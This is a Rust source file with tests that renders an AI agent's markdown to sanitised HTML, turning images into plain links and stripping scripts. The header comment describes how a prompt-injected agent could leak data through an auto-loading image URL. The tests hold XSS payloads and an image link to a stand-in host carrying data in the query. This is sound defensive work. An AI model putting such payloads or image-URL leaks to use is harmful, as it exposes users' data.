//! The agent's markdown, rendered to HTML and sanitised on the server: scripts, event handlers and
//! unsafe URLs never reach a page, and neither do images: a prompt-injected agent could leak data
//! through an image URL that loads with no click, so every image becomes a plain link.

use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, html};

/// Longest text rendered; longer text is cut (the room log keeps all of it).
pub const MAX_MARKDOWN_CHARS: usize = 200_000;

pub fn render(text: &str) -> String {
    let text = match text.char_indices().nth(MAX_MARKDOWN_CHARS) {
        Some((cut, _)) => &text[..cut],
        None => text,
    };
    let mut options = Options::empty();
    options.insert(Options::ENABLE_TABLES);
    options.insert(Options::ENABLE_STRIKETHROUGH);
    options.insert(Options::ENABLE_TASKLISTS);
    let events = Parser::new_ext(text, options).map(|event| match event {
        Event::Start(Tag::Image {
            link_type,
            dest_url,
            title,
            id,
        }) => Event::Start(Tag::Link {
            link_type,
            dest_url,
            title,
            id,
        }),
        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
        // A line break the agent wrote is kept, as chat renders it: text that is not markdown
        // (Codex's permission questions) keeps its lines.
        Event::SoftBreak => Event::HardBreak,
        other => other,
    });
    let mut out = String::with_capacity(text.len() * 3 / 2);
    html::push_html(&mut out, events);
    // Raw <img> in the markdown goes too (its alt text is dropped with it).
    ammonia::Builder::default()
        .rm_tags(&["img"])
        .clean(&out)
        .to_string()
}

#[cfg(test)]
mod tests {
    use super::render;

    #[test]
    fn renders_markdown_and_strips_scripts() {
        let html = render(
            "# Hi\n\n- one\n- `two`\n\n```rust\nfn main() {}\n```\n\n[x](https://example.com)",
        );
        assert!(html.contains("<h1>Hi</h1>"));
        assert!(html.contains("<li><code>two</code></li>"));
        assert!(html.contains("<pre><code"));
        assert!(html.contains(r#"href="https://example.com""#));
        let evil = render(
            "<script>alert(1)</script><img src=x onerror=alert(2)> [a](javascript:alert(3))",
        );
        assert!(!evil.contains("<script"));
        assert!(!evil.contains("onerror"));
        assert!(!evil.contains("href=\"javascript:"), "{evil}");
    }

    #[test]
    fn line_breaks_are_kept() {
        let html = render("Proposed Amendment:\nenv ls -la\nAvailable Decisions:\nApproved");
        assert_eq!(html.matches("<br").count(), 3, "{html}");
    }

    #[test]
    fn images_become_links_and_load_nothing() {
        let html = render(
            "![the secret](https://evil.example/x.png?d=abc) and <img src=\"https://evil.example/y\">",
        );
        assert!(!html.contains("<img"), "{html}");
        assert!(html.contains(r#"<a href="https://evil.example/x.png?d=abc" rel="noopener noreferrer">the secret</a>"#), "{html}");
    }
}
